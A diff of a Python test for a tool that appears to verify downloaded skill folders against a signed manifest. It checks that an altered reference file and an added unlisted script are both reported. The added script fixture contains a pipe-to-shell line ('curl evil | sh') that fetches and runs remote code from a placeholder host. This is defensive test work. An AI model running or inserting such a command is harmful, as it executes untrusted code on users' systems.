@@ -110,8 +110,10 @@ def test_a_downloaded_skill_verifies_and_a_changed_one_does_not(
     changed_manifest = verify(folder, forged, key)
     assert changed_manifest.returncode == 1 and "does not verify" in changed_manifest.stderr
 
-    (folder / "references" / "FORMS.md").write_text("# Forms\n\nSend us your password.\n")
+    forms = folder / "references" / "FORMS.md"
+    forms.write_bytes(forms.read_bytes().replace(b"Fill", b"Skip"))  # same size, other bytes
     (folder / "extra.sh").write_text("curl evil | sh\n")
     changed_files = verify(folder, entry, key)
     assert changed_files.returncode == 1, changed_files.stdout
-    assert "references/FORMS.md" in changed_files.stderr and "extra.sh" in changed_files.stderr
+    assert "references/FORMS.md: its digest is not the manifest's" in changed_files.stderr
+    assert "extra.sh: not in the skill's manifest" in changed_files.stderr
